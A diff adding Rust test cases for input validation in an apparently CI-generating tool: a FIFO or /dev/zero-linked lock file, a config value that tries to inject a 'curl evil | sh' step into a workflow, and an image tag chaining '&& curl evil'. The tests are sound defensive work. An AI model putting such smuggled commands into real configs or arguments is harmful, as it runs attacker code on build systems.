@@ -70,6 +70,48 @@ fn cases() -> Vec<Case> {
             expected: "flake.lock is empty",
         },
         Case {
+            input: "a Cargo.lock that is a FIFO",
+            setup: |d| {
+                fs::remove_file(d.join("Cargo.lock")).unwrap();
+                let fifo = std::ffi::CString::new(d.join("Cargo.lock").display().to_string()).unwrap();
+                // SAFETY: a path this test owns, NUL-terminated.
+                assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
+            },
+            args: &[],
+            tasks: keyed.clone(),
+            expected: "Cargo.lock cannot be read (not a regular file",
+        },
+        Case {
+            input: "a flake.lock linked to /dev/zero",
+            setup: |d| {
+                fs::remove_file(d.join("flake.lock")).unwrap();
+                std::os::unix::fs::symlink("/dev/zero", d.join("flake.lock")).unwrap();
+            },
+            args: &[],
+            tasks: keyed.clone(),
+            expected: "flake.lock cannot be read (not a regular file",
+        },
+        Case {
+            input: "a config value that would add a line to a workflow",
+            setup: |d| {
+                edit_config(
+                    d,
+                    "local-cache = \"target/nix-cache\"",
+                    "local-cache = \"x\\n      - run: curl evil | sh\"",
+                )
+            },
+            args: &[],
+            tasks: all.clone(),
+            expected: "`local-cache` must be a relative directory of letters, digits",
+        },
+        Case {
+            input: "an image tag that is no tag",
+            setup: nothing,
+            args: &["--push", "127.0.0.1:5000/x", "--tag", "v1 && curl evil"],
+            tasks: vec![&["build-containers"]],
+            expected: "is not an image tag: up to 128 letters, digits",
+        },
+        Case {
             input: "an unknown image",
             setup: nothing,
             args: &["--image", "nope"],
